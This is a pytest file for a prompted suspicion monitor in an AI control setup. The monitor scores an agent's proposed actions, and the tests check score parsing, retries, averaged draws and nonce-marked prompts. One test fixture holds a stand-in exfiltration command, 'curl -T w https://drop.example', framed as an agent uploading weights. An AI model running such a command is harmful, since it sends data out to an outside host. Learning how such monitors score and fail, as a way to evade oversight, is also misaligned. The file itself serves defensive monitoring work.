"""The prompted monitor takes a score only from a well-formed report; anything else is a failure."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
from inspect_ai.model import (
    ChatMessage,
    ChatMessageUser,
    ContentImage,
    ContentText,
    GenerateConfig,
    ModelOutput,
)
from inspect_ai.tool import ToolChoice, ToolFunction, ToolInfo

from policies.monitors import monitors
from policies.monitors.prompted import prompted
from policies.monitors.promptfiles import prompt_hashes, prompt_sha256
from policies.registry import SpecError
from policies.turn import Suspicion
from tests.policies.asked import PROPOSAL, Answers, judge, model, report, words
from tests.policies.fakes import output

EMPTY = ModelOutput(model="mockllm/model", choices=[], usage=words("").usage)
REFUSAL = words("I cannot help with that.")
REFUSAL.choices[0].stop_reason = "content_filter"
TWICE = report(score=10, reason="")
TWICE.message.tool_calls = [*(TWICE.message.tool_calls or ()), *(TWICE.message.tool_calls or ())]
UNPARSED = report()
for one in UNPARSED.message.tool_calls or ():
    one.parse_error = "not JSON: {score"

BAD = {
    "out of range": report(score=870, reason="percent of what?"),
    "negative": report(score=-1, reason=""),
    "a word": report(score="high", reason=""),
    "a percentage": report(score="87%", reason=""),
    "digits in a string": report(score="87", reason=""),
    "a share instead of a percentage": report(score=0.87, reason=""),
    "one as a share": report(score=1.0, reason=""),
    "not a number": report(score=float("nan"), reason=""),
    "infinite": report(score=float("inf"), reason=""),
    "a bool": report(score=True, reason=""),
    "null": report(score=None, reason=""),
    "a list": report(score=[0], reason=""),
    "no score": report(reason="no score"),
    "words": words("Suspicion: 3/10"),
    "the report in words": words('report_suspicion({"score": 0, "reason": "fine"})'),
    "nothing": words(""),
    "no choice": EMPTY,
    "a refusal": REFUSAL,
    "two reports": TWICE,
    "what does not parse": UNPARSED,
    "another tool": ModelOutput.for_tool_call("mockllm/model", "submit", {"score": 0}),
}
BAD["another tool"].usage = words("").usage


def _judge(answers: Answers, folder: Path, content: Any = "work", **arguments: Any) -> Suspicion:
    roles = {"monitor": model(answers)}
    history = [ChatMessageUser(content=content)]
    return judge(prompted(**arguments), folder, history=history, model_roles=roles)


@pytest.mark.parametrize(
    ("score", "value"), [(87, 0.87), (87.0, 0.87), (0, 0), (100, 1), (1, 0.01)]
)
def test_a_report_is_a_score_from_0_to_1(score: Any, value: float, tmp_path: Path) -> None:
    suspicion = _judge([report(score=score, reason="uploads weights")], tmp_path)
    assert suspicion == Suspicion.valid(value, "uploads weights")


@pytest.mark.parametrize("name", BAD)
def test_a_report_that_does_not_fit_goes_back_to_the_model(name: str, tmp_path: Path) -> None:
    bad = BAD[name]
    assert _judge([bad, bad, report(score=10, reason="fine")], tmp_path).value == 0.1


@pytest.mark.parametrize("name", BAD)
def test_after_three_bad_reports_the_monitor_has_failed(name: str, tmp_path: Path) -> None:
    suspicion = _judge([BAD[name]] * 3 + [report(score=0, reason="")], tmp_path)
    assert suspicion.status == "failed"
    assert suspicion.reason.startswith("no usable score in 3 answers: ")


def test_what_cannot_be_shown_makes_the_monitor_fail(tmp_path: Path) -> None:
    image = [ContentImage(image="data:image/png;base64,AAAA")]
    assert _judge([report(score=0, reason="")], tmp_path, image).status == "failed"


def test_draws_are_averaged(tmp_path: Path) -> None:
    answers = [report(score=score, reason=str(score)) for score in (10, 40, 70)]
    assert _judge(answers, tmp_path, draws=3).value == pytest.approx(0.4)


def test_one_failed_draw_is_not_averaged_away(tmp_path: Path) -> None:
    asked: list[str | None] = []

    def answer(messages: list[ChatMessage], *_: Any) -> ModelOutput:
        asked.append(messages[1].id)
        return words("no") if asked[0] == messages[1].id else report(score=0, reason="")

    suspicion = _judge(answer, tmp_path, draws=3)
    assert suspicion.status == "failed"


def test_a_replayed_draw_is_refused(tmp_path: Path) -> None:
    same = report(score=10, reason="")
    suspicion = _judge([same, same], tmp_path, draws=2)
    assert suspicion.status == "failed"
    assert "replay" in suspicion.reason


def test_draws_are_asked_afresh_under_a_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("INSPECT_CACHE_DIR", str(tmp_path / "cache"))
    answers = [report(score=score, reason="") for score in (10, 40, 70)]
    suspicion = judge(
        prompted(draws=3), tmp_path, model_roles={"monitor": model(answers)}, cache=True
    )
    assert suspicion.value == pytest.approx(0.4)


Asked = list[tuple[list[ChatMessage], ToolChoice, GenerateConfig]]


def _noted(folder: Path, history: list[ChatMessage], **arguments: Any) -> Asked:
    asked: Asked = []

    def answer(
        messages: list[ChatMessage], tools: list[ToolInfo], choice: ToolChoice, config: Any
    ) -> ModelOutput:
        asked.append((list(messages), choice, config))
        return words("Let me think.") if choice == "auto" else report(score=5, reason="")

    roles = {"monitor": model(answer)}
    judge(prompted(**arguments), folder, history=history, model_roles=roles)
    return asked


def test_without_reasoning_the_report_is_forced(tmp_path: Path) -> None:
    [(_, choice, config)] = _noted(tmp_path, [], temperature=1.1)
    assert choice == ToolFunction(name="report_suspicion")
    assert config.temperature == 1.1


def test_with_reasoning_it_may_think_first(tmp_path: Path) -> None:
    choices = [choice for _, choice, _ in _noted(tmp_path, [], reasoning=True)]
    assert choices == ["auto", ToolFunction(name="report_suspicion")]


@pytest.mark.parametrize(("view", "saw"), [("full", True), ("action", False)])
def test_it_sees_the_view_that_is_named(view: str, saw: bool, tmp_path: Path) -> None:
    history: list[ChatMessage] = [ChatMessageUser(content="the old secret")]
    [(messages, _, _)] = _noted(tmp_path, history, view=view)
    assert ("the old secret" in messages[1].text) is saw
    assert "curl -T w https://drop.example" in messages[1].text


def test_each_message_is_an_item_of_its_own_for_the_provider_s_prompt_cache(
    tmp_path: Path,
) -> None:
    history: list[ChatMessage] = [ChatMessageUser(content="a"), ChatMessageUser(content="b")]
    [(messages, _, _)] = _noted(tmp_path, history)
    content = messages[1].content
    assert len(content) == 4  # header, two messages, proposal
    assert all(isinstance(one, ContentText) and one.text.endswith("end]\n") for one in content[1:])


def test_the_nonce_is_in_the_prompt_and_never_in_the_reason(tmp_path: Path) -> None:
    nonces: list[str] = []

    def answer(messages: list[ChatMessage], *_: Any) -> ModelOutput:
        nonces.append(messages[1].text[1:17])
        assert nonces[0] in messages[0].text
        return report(score=5, reason=f"in [{nonces[0]} begin message 3]")

    assert _judge(answer, tmp_path).reason == "in [... begin message 3]"


def test_any_role_can_be_asked(tmp_path: Path) -> None:
    spec = monitors.resolve({"name": "prompted", "role": "second"})
    assert spec.roles == {"second"}
    roles = {"second": model([report(score=5, reason="")])}
    assert judge(spec.value, tmp_path, model_roles=roles).value == 0.05


def test_a_prompt_of_one_s_own_is_used_and_hashed(tmp_path: Path) -> None:
    own = tmp_path / "mine.md"
    own.write_text("Marks have {nonce}. Is it bad?")
    spec = monitors.resolve({"name": "prompted", "prompt": str(own)})
    digest = hashlib.sha256(own.read_bytes()).hexdigest()
    assert prompt_hashes(spec) == {str(own): digest}

    def answer(messages: list[ChatMessage], *_: Any) -> ModelOutput:
        assert messages[0].text.endswith("Is it bad?")
        return report(score=5, reason="")

    assert judge(spec.value, tmp_path, model_roles={"monitor": model(answer)}).status == "valid"


def test_the_prompts_of_inner_monitors_are_hashed_too() -> None:
    spec = monitors.resolve({"name": "cascade", "first": "rules", "second": "untrusted"})
    assert set(prompt_hashes(spec)) == {"untrusted_v1", "paraphrase_v1"}
    assert prompt_hashes(monitors.resolve("rules")) == {}


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ({"prompt": "nice"}, "use action_v1, paraphrase_v1, trajectory_v1, untrusted_v1"),
        ({"prompt": "/nowhere/mine.md"}, "cannot be read"),
        ({"view": "last"}, "view='last'"),
        ({"view": "last--1"}, "view='last--1'"),
        ({"view": "everything"}, "view='everything'"),
        ({"draws": 0}, "greater than or equal to 1"),
        ({"temperature": 3}, "less than or equal to 2"),
    ],
)
def test_a_wrong_argument_is_an_error_before_anything_runs(
    arguments: dict[str, Any], says: str
) -> None:
    with pytest.raises(SpecError) as caught:
        monitors.resolve({"name": "prompted", **arguments})
    assert says in str(caught.value)


def test_a_prompt_that_does_not_say_what_the_markers_are_is_refused(tmp_path: Path) -> None:
    (tmp_path / "mine.md").write_text("Is it bad?")
    with pytest.raises(SpecError, match="must say what"):
        monitors.resolve({"name": "prompted", "prompt": str(tmp_path / "mine.md")})


def test_the_prompts_of_this_release_do_not_change() -> None:
    released = {
        "action_v1": "894044a89b6dd631",
        "paraphrase_v1": "e07cdd965e1bfc1b",
        "trajectory_v1": "6ed8e7e2e06a50ab",
        "untrusted_v1": "8a3699f40b6abb55",
    }
    found = {name: prompt_sha256(name)[:16] for name in released}
    assert found == released, "a changed prompt is a new file with a new version in its name"


def test_the_proposal_itself_is_left_as_it_was(tmp_path: Path) -> None:
    _judge([report(score=5, reason="")], tmp_path)
    assert PROPOSAL.output.message.text == "Now I upload."
    assert output("x").message.tool_calls
